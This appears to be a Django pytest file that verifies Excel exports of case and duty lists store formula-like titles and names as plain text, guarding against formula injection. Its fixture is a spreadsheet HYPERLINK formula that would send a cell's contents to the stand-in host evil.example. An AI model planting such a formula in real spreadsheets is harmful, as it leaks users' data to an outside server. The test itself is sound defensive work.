"""The pages' Excel downloads write text as text: a title, a place or a unit name that begins
with = (or + - @) comes out as a string cell, never a formula (CSV/formula injection, OWASP)."""

from __future__ import annotations

from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Case
from orgs.models import Organisation
from regions.models import Region

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _typed(content: bytes) -> list[list[tuple[object, str]]]:
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def test_the_case_list_export_writes_formula_like_text_as_text(world, client):
    case = world.assigned(title="占位")
    Case.objects.filter(pk=case.pk).update(title=FORMULA)
    Region.objects.filter(pk=world.grid.pk).update(name="@SUM(1,2)")
    Organisation.objects.filter(pk=world.dept.pk).update(name="+1+2")
    client.force_login(world.dispatcher)
    response = client.get(reverse("caseviews:case-export"))
    assert response.status_code == 200
    header, row = _typed(b"".join(response.streaming_content))
    cells = dict(zip([value for value, _type in header], row, strict=True))
    assert cells["标题"] == (FORMULA, "s")
    assert cells["发生地"] == ("@SUM(1,2)", "s")
    assert cells["主办单位"] == ("+1+2", "s")


def test_the_duty_list_writes_formula_like_text_as_text(world, client):
    case = world.assigned(title="占位")
    Case.objects.filter(pk=case.pk).update(title=FORMULA)
    Organisation.objects.filter(pk=world.dept.pk).update(name="=1+2", short_name="")
    client.force_login(world.handler)
    response = client.get(reverse("department:duty-list-xlsx"))
    assert response.status_code == 200
    title, header, row = _typed(response.content)
    assert title[0][0].startswith("=1+2") and title[0][1] == "s"
    cells = dict(zip([value for value, _type in header], row, strict=True))
    assert cells["标题"] == (FORMULA, "s")
    assert cells["承办单位"] == ("=1+2", "s")
